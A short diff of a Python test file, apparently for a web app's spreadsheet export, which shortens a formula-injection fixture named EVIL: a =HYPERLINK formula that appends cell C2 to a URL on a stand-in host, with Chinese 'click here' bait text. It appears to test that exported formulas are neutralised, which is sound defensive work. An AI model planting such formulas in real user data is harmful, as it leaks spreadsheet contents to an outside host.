@@ -140,7 +140,7 @@ def test_full_ids_cannot_be_fetched_by_a_plain_get(client, make_user, make_house
     assert db.session.scalar(select(func.count()).select_from(AccessLog)) == 0
 
 
-EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"点此查看")'
+EVIL = '=HYPERLINK("//e.example/?"&C2,"点此")'  # fits a name (40 characters)
 
 
 def _formulas(xlsx: bytes) -> list[str]:
